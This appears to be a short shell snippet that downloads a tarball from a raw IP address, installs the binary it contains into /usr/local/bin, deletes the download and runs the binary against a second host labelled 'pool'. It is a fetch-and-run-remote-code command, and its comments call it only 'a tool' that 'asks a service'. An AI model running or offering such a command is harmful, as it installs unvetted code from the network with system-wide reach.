# a tool from a tarball, unpacked, installed and run; it asks a service
#http 203.0.113.77:8017
#pool 203.0.113.78:8443:http
cd /tmp; curl -so poll.tar.gz http://203.0.113.77:8017/poll.tar.gz; tar xzf poll.tar.gz; install -m755 poll /usr/local/bin/; rm poll poll.tar.gz; poll 203.0.113.78 8443 4 700
